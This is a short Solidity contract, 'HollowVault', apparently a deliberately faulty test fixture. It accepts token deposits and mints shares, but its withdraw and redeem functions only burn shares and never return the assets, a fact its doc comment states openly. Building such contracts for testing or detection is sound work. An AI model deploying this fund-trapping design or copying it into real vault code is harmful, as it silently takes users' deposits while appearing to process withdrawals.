// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Erc20} from "./base/Erc20.sol";
import {Tokens} from "./base/Tokens.sol";

/// @title A vault by its functions, whose shares redeem for nothing.
contract HollowVault is Erc20 {
    address public immutable asset;

    constructor(address asset_) {
        asset = asset_;
        _describe("Vault shares", "hVLT", 18);
    }

    function deposit(uint256 assets, address receiver) external returns (uint256) {
        require(Tokens.pull(asset, msg.sender, address(this), assets), "deposit failed");
        _mint(receiver, assets);
        return assets;
    }

    function withdraw(uint256 assets, address, address holder) external returns (uint256) {
        require(holder == msg.sender, "holder only");
        _burn(holder, assets);
        return assets;
    }

    function redeem(uint256 shares, address, address holder) external returns (uint256) {
        require(holder == msg.sender, "holder only");
        _burn(holder, shares);
        return shares;
    }
}
